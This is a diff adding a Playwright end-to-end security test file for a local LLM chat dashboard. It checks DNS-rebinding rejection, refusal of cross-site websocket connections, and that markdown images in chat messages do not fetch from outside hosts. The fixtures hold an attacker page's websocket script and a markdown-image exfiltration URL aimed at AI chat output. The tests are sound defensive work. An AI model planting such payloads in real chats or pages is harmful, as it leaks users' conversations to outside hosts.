@@ -1,0 +1,127 @@
+"""What a browser may reach: nothing for a foreign host name (DNS rebinding) or another site's page, and
+no request from the dashboard to any host but its own, on every page, in both languages."""
+
+from __future__ import annotations
+
+import os
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Browser, Page, Playwright, Route, expect
+
+from core.chat import ChatService
+from core.storage import repo
+from core.storage.db import Database
+from tests.e2e.conftest import CHROMIUM, CHROMIUM_ARGS
+
+pytestmark = pytest.mark.e2e
+LEAK = "http://198.51.100.7/leak?q=the-conversation"  # TEST-NET-2: never answered
+
+
+@pytest.fixture(scope="module")
+def rebinding_browser(playwright: Playwright) -> Iterator[Browser]:
+    """Chromium for which every *.test name resolves to 127.0.0.1, as after DNS rebinding."""
+    rules = "--host-resolver-rules=MAP *.test 127.0.0.1"
+    instance = playwright.chromium.launch(
+        executable_path=CHROMIUM, headless=True, args=[*CHROMIUM_ARGS, rules]
+    )
+    yield instance
+    instance.close()
+
+
+@pytest.fixture
+def attacker_site() -> Iterator[int]:
+    """A page on another site that opens a websocket to the dashboard and reports what happened."""
+
+    class Page(BaseHTTPRequestHandler):
+        def log_message(self, *_args: object) -> None:
+            pass
+
+        def do_GET(self) -> None:
+            target = self.path.lstrip("/?")
+            body = f"""<p id=state>connecting</p><script>
+                const socket = new WebSocket("ws://{target}/_stcore/stream");
+                socket.onopen = () => document.getElementById("state").textContent = "opened";
+                socket.onclose = () => {{ const s = document.getElementById("state");
+                    if (s.textContent !== "opened") s.textContent = "refused"; }};
+            </script>""".encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield server.server_address[1]
+    server.shutdown()
+
+
+def test_a_foreign_host_name_and_another_sites_page_get_nothing(
+    rebinding_browser: Browser, browser: Browser, app_url: str, attacker_site: int
+) -> None:
+    port = urlsplit(app_url).port
+    page = rebinding_browser.new_context(locale="en-US").new_page()
+    response = page.goto(f"http://rebind.test:{port}/")
+    assert response.status == 400
+    expect(page.get_by_text("does not answer to the host name 'rebind.test")).to_be_visible()
+    assert page.locator("#root").count() == 0  # no app, not even its shell
+
+    evil = browser.new_context(locale="en-US").new_page()
+    evil.goto(f"http://127.0.0.1:{attacker_site}/?localhost:{port}")
+    expect(evil.locator("#state")).to_have_text("refused", timeout=15_000)
+
+    own = browser.new_context(locale="en-US").new_page()  # the same app by its own name works
+    own.goto(app_url)
+    expect(own.get_by_role("heading", name="Chat")).to_be_visible(timeout=30_000)
+
+
+def outside_requests(page: Page, own: str) -> list[str]:
+    """Every request to a host other than `own` is recorded and refused (this machine is offline)."""
+    seen: list[str] = []
+
+    def check(route: Route) -> None:
+        url = route.request.url
+        if urlsplit(url).scheme in ("http", "https", "ws", "wss") and urlsplit(url).netloc != own:
+            seen.append(url)
+            route.abort()
+        else:
+            route.continue_()
+
+    page.route("**/*", check)
+    return seen
+
+
+@pytest.mark.parametrize(("locale", "pages"), [("en-US", ("Chat", "Models", "Hardware & Settings")),
+                                                ("zh-CN", ("聊天", "模型", "硬件与设置"))])  # fmt: skip
+def test_no_page_makes_the_browser_fetch_from_another_host(
+    browser: Browser, short_replies: str, app_url: str, locale: str, pages: tuple[str, ...]
+) -> None:
+    db = Database(os.environ["LOCALLLM_DB_URL"])
+    chat = ChatService(db, provider=lambda: None)
+    conversation = chat.new_conversation(f"![title]({LEAK})")
+    with db.begin() as session:
+        repo.add_message(session, conversation.id, "user", "Show me a picture")
+        answer = f"Here: ![a cat]({LEAK}) and `![code]({LEAK})`"
+        repo.add_message(session, conversation.id, "assistant", answer, finish_reason="stop")
+    page = browser.new_context(locale=locale, viewport={"width": 1280, "height": 900}).new_page()
+    outside = outside_requests(page, urlsplit(app_url).netloc)
+    page.goto(app_url)
+    sidebar = page.get_by_test_id("stSidebar")
+    page.wait_for_timeout(5000)
+    print(sidebar.get_by_role("button").all_inner_texts())
+    page.screenshot(path="/tmp/trust.png")
+    sidebar.get_by_role("button", name=f"![title]({LEAK})").click()
+    reply = page.get_by_test_id("stChatMessage").nth(1)
+    expect(reply.get_by_role("link", name="a cat")).to_have_attribute("href", LEAK)  # a link, not a fetch
+    assert reply.locator("img").count() == 0
+    expect(reply.locator("code")).to_contain_text(f"![code]({LEAK})")
+    for title in pages[1:]:
+        sidebar.get_by_role("link", name=title).click()
+        expect(page.get_by_role("heading", name=title, exact=True)).to_be_visible(timeout=30_000)
+    sidebar.get_by_role("link", name=pages[0]).click()
+    expect(page.get_by_role("heading", name=pages[0], exact=True)).to_be_visible(timeout=30_000)
+    assert outside == []
